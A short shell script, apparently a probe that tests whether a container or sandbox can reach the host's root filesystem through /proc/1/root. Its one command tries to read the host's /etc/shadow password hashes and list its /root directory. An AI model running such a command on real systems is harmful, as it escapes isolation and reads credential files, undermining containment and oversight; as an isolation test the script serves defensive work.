#!/bin/sh
# Attempt: reach the host root through /proc/1/root.
# Exits 0 only if the attempt succeeded.
cat /proc/1/root/etc/shadow || ls -a /proc/1/root/root | grep -qv '^\.\.\?$'
